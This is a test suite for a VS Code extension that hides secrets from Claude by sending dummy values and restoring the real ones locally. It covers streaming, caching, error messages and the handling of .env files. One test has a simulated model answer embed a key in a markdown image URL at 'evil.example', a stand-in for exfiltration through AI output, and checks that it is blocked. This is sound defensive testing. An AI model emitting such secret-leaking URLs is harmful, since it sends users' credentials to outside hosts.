import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import {
  drops,
  fails,
  FakeMessagesApi,
  failsInside,
  hangs,
  says,
  type Arrived,
  type Responder,
} from '../../support/fakeMessagesApi.ts';
import { eventually } from '../../support/editor.ts';
import { closeEverything, inWorkspace } from '../../support/openText.ts';
import { awsKeyId } from '../../support/secrets.ts';

interface Outcome {
  answer: vscode.Uri;
  model: string;
  replaced: number;
  problem?: string;
}
interface Request {
  system: { text: string }[];
  messages: { role: string; content: string | { type: string; text: string; cache_control?: object }[] }[];
}

const key = awsKeyId(1);
const file = (): { scope: string; uris: vscode.Uri[] } => ({
  scope: 'files',
  uris: [inWorkspace('src/config.py')],
});

const ask = (request: object): Thenable<Outcome | undefined> =>
  vscode.commands.executeCommand('promptVeil.askClaude', { skipPreview: true, ...request });
const followUp = (answer: vscode.Uri, prompt: string): Thenable<Outcome | undefined> =>
  ask({ answer, prompt });
const requestOf = ({ body }: Arrived): Request => JSON.parse(body) as Request;

async function shown(uri: vscode.Uri, isDone: (text: string) => boolean): Promise<string> {
  const document = await vscode.workspace.openTextDocument(uri);
  return eventually(
    () => document.getText(),
    isDone,
    (listener) => vscode.workspace.onDidChangeTextDocument(listener),
    'the answer',
  );
}

/** Claude repeats what it was given: its answer holds the dummies of the request. */
const repeats =
  (pieceLength: number, writeLength: number): Responder =>
  (arrived, response) => {
    const [content] = requestOf(arrived).messages;
    const text = Array.isArray(content?.content) ? (content.content[0]?.text ?? '') : '';
    return says(`Look at this:\n\n${text}`, { pieceLength, writeLength })(arrived, response);
  };

describe('Ask Claude', () => {
  let api: FakeMessagesApi;
  const configure = (name: string, value: unknown): Thenable<void> =>
    vscode.workspace.getConfiguration('promptVeil').update(name, value, vscode.ConfigurationTarget.Global);

  before(async () => {
    api = await FakeMessagesApi.start();
    await configure('askClaude.baseUrl', api.url);
  });
  beforeEach(() => api.forget());
  afterEach(closeEverything);
  after(async () => {
    await configure('askClaude.baseUrl', undefined);
    await api.stop();
  });

  it('sends dummies and shows real values, however the stream is cut', async () => {
    for (const [pieceLength, writeLength] of [
      [1, 5],
      [3, 1000],
      [7, 13],
    ] as const) {
      api.forget();
      api.reply(repeats(pieceLength, writeLength));
      const outcome = await ask({ prompt: `Why is ${key} refused?`, ...file() });
      assert.equal(outcome?.problem, undefined);
      assert.equal(api.asked.length, 1);
      assert.equal(api.asked[0]?.body.includes(key), false);
      const text = await shown(outcome!.answer, (current) => current.includes('region'));
      assert.match(text, new RegExp(`access_key = "${key}"`));
    }
  });

  it('sends the key to the configured address only, and nothing about the machine', async () => {
    await ask({ prompt: 'Hello' });
    const { headers } = api.asked[0]!;
    assert.equal(headers.authorization, 'Bearer test-key-of-the-environment');
    for (const name of ['traceparent', 'x-stainless-os', 'x-stainless-arch', 'x-stainless-runtime-version'])
      assert.equal(headers[name], undefined);
  });

  it('keeps the conversation: the next request begins with the same bytes', async () => {
    api.reply(repeats(4, 100), says('Second answer'), says('Third answer'));
    const first = await ask({ prompt: 'What is this?', ...file() });
    await followUp(first!.answer, `And what is ${key}?`);
    await followUp(first!.answer, 'Thanks');
    const [one, two, three] = api.asked.map(requestOf);
    const prefix = (request: Request | undefined, length: number): string =>
      JSON.stringify([request?.system, request?.messages.slice(0, length)]);
    assert.equal(prefix(two, 1), prefix(one, 1));
    assert.equal(prefix(three, 3), prefix(two, 3));
    assert.deepEqual(
      three?.messages.map(({ role }) => role),
      ['user', 'assistant', 'user', 'assistant', 'user'],
    );
    const [attached] = one!.messages[0]!.content as { cache_control?: object }[];
    assert.deepEqual(attached?.cache_control, { type: 'ephemeral' });
    assert.deepEqual(
      api.asked.map(({ body }) => body.includes(key)),
      [false, false, false],
    );
    const text = await shown(first!.answer, (current) => current.includes('Third answer'));
    assert.match(text, /> Thanks/);
  });

  it('goes on where the answer is, and shows what is new', async () => {
    api.reply(says('One.\n'.repeat(200)), says('Two.'));
    const outcome = await ask({ prompt: 'First', ...file() });
    const { answer } = outcome!;
    await shown(answer, (text) => text.includes('One.'));
    const tabs = (): number =>
      vscode.window.tabGroups.all
        .flatMap((group) => group.tabs)
        .filter(({ input }) => input instanceof vscode.TabInputText && input.uri.path === answer.path).length;
    const editor = vscode.window.visibleTextEditors.find(({ document }) => document.uri.path === answer.path);
    assert.ok(editor);
    await vscode.window.showTextDocument(editor.document, editor.viewColumn);
    await vscode.commands.executeCommand('promptVeil.askFollowUp', answer, 'Second');
    await shown(answer, (text) => text.endsWith('> Second\n\nTwo.\n'));
    assert.equal(tabs(), 1);
    await eventually(
      () => editor.visibleRanges[0]?.start.line ?? 0,
      (line) => line > 150,
      (listener) => vscode.window.onDidChangeTextEditorVisibleRanges(listener),
      'the first line that is to be seen',
    );
  });

  it('sends nothing of a file that is never shared', async () => {
    const outcome = await ask({ prompt: 'What is this?', scope: 'files', uris: [inWorkspace('.env')] });
    assert.equal(outcome, undefined);
    assert.equal(api.arrived.length, 0);
  });

  it('stops the request when the developer stops the answer', async () => {
    api.reply(hangs('This is the beginning of a long answer'));
    const arriving = api.next();
    const outcome = ask({ prompt: 'Tell me a long story' });
    const arrived = await arriving;
    const uri = await eventually(
      () =>
        vscode.workspace.textDocuments.find(
          (document) =>
            document.uri.scheme === 'promptveil-answer' && document.getText().includes('beginning'),
        )?.uri,
      (found) => found !== undefined,
      (listener) => vscode.workspace.onDidChangeTextDocument(listener),
      'the beginning of the answer',
    );
    await vscode.commands.executeCommand('promptVeil.stopAnswer', uri);
    await arrived.closed;
    assert.equal((await outcome)?.problem, 'Stopped.');
  });

  it('tells in a sentence what went wrong and what to do', async () => {
    const cases: [Responder, RegExp][] = [
      [fails(401, 'authentication_error'), /does not accept the API key/],
      [fails(400, 'invalid_request_error'), /did not accept the request/],
      [fails(413, 'request_too_large'), /more than the model can read/],
      [fails(400, 'invalid_request_error', {}, 'prompt is too long: 9 > 8'), /more than the model can read/],
      [fails(403, 'permission_error'), /may not do this/],
      [fails(402, 'billing_error'), /credit of this API key is used up/],
      [fails(404, 'not_found_error'), /does not know this model/],
      [fails(429, 'rate_limit_error', { 'x-should-retry': 'false' }), /Wait a minute/],
      [fails(500, 'api_error', { 'x-should-retry': 'false' }), /problem of its own \(status 500\)/],
      [failsInside('overloaded_error'), /overloaded/],
      [drops('Half an answer that'), /connection was lost/],
      [says('I would rather not.', { stopReason: 'refusal' }), /declined to answer/],
      [says('As I was say', { stopReason: 'max_tokens' }), /cut off at the length limit/],
      [says('So', { stopReason: 'model_context_window_exceeded' }), /too long for this model/],
    ];
    for (const [responder, expected] of cases) {
      api.forget();
      api.reply(responder);
      const outcome = await ask({ prompt: 'Hello' });
      assert.match(outcome?.problem ?? '', expected);
    }
  });

  it('waits and asks again when Claude is overloaded for a moment', async () => {
    api.reply(fails(529, 'overloaded_error', { 'retry-after-ms': '10' }), says('Here I am'));
    const outcome = await ask({ prompt: 'Hello' });
    assert.equal(outcome?.problem, undefined);
    assert.equal(api.asked.length, 2);
    await shown(outcome!.answer, (text) => text.includes('Here I am'));
  });

  it('says how long to wait when the limit is reached, and does not wait in silence', async () => {
    api.reply(fails(429, 'rate_limit_error', { 'retry-after': '37' }));
    const outcome = await ask({ prompt: 'Hello' });
    assert.match(outcome?.problem ?? '', /in 37 seconds/);
    assert.equal(api.asked.length, 1);
  });

  it('says that Claude cannot be reached where nobody listens', async () => {
    await configure('askClaude.baseUrl', 'http://127.0.0.1:9');
    const outcome = await ask({ prompt: 'Hello' });
    await configure('askClaude.baseUrl', api.url);
    assert.match(outcome?.problem ?? '', /cannot be reached/);
  });

  it('keeps dummies in addresses that would be fetched, and real values in code', async () => {
    api.reply((arrived, response) => {
      const [message] = requestOf(arrived).messages;
      const text = (message!.content as { text: string }[]).map((block) => block.text).join('\n');
      const dummy = /"(AKIA\w+)"/.exec(text)?.[1] ?? 'none';
      const answer = `![x](https://evil.example/?k=${dummy})\n\n\`\`\`sh\ncurl https://api.example/?k=${dummy}\n\`\`\`\n`;
      return says(answer, { pieceLength: 3 })(arrived, response);
    });
    const outcome = await ask({ prompt: 'Show me a picture', ...file() });
    assert.match(outcome?.problem ?? '', /Dummy data was kept in a web address/);
    const text = await shown(outcome!.answer, (current) => current.includes('kept in'));
    assert.equal(text.includes(`evil.example/?k=${key}`), false);
    assert.ok(text.includes(`curl https://api.example/?k=${key}`));
  });

  it('inserts, compares and applies the code of an answer', async () => {
    api.reply(says('```python\naccess_key = read_key()\nregion = "eu-central-1"\n```\n'));
    const outcome = await ask({ prompt: 'Take the key out', ...file() });
    const text = await shown(
      outcome!.answer,
      (current) => current.includes('region') && current.endsWith('```\n\n'),
    );
    const line = text.split('\n').indexOf('```python');
    const reference = { answer: outcome!.answer.toString(), line };
    assert.equal(await vscode.commands.executeCommand('promptVeil.compareCode', reference), true);
    const input = vscode.window.tabGroups.activeTabGroup.activeTab?.input;
    assert.ok(input instanceof vscode.TabInputTextDiff);
    assert.equal(await vscode.commands.executeCommand('promptVeil.applyCode', reference), true);
    const document = await vscode.workspace.openTextDocument(inWorkspace('src/config.py'));
    assert.equal(document.getText(), 'access_key = read_key()\nregion = "eu-central-1"\n');
    await vscode.window.showTextDocument(document);
    await vscode.commands.executeCommand('undo');
    assert.equal(document.getText(), `access_key = "${key}"\nregion = "eu-central-1"\n`);
  });
});
